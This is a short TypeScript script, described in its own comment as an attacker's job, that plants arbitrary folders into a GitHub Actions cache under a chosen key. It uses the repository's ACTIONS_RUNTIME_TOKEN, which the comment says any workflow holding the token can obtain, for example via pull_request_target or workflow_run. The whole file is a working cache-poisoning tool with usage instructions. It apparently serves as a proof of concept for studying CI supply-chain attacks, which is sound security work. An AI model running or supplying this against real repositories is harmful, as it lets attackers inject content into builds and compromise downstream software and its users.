// An attacker's job: saves folders to the Actions cache under a key of its choosing, as any workflow
// holding the repository's ACTIONS_RUNTIME_TOKEN can (pull_request_target, workflow_run…).
//   npx tsx plant-cache.ts <key> <path>…   (ACTIONS_RESULTS_URL, ACTIONS_RUNTIME_TOKEN in the environment)
import * as cache from '@actions/cache'

const [key, ...paths] = process.argv.slice(2)
const id = await cache.saveCache(paths, key)
if (id === -1) throw new Error(`could not plant ${key}`)
console.log(`planted ${key}`)
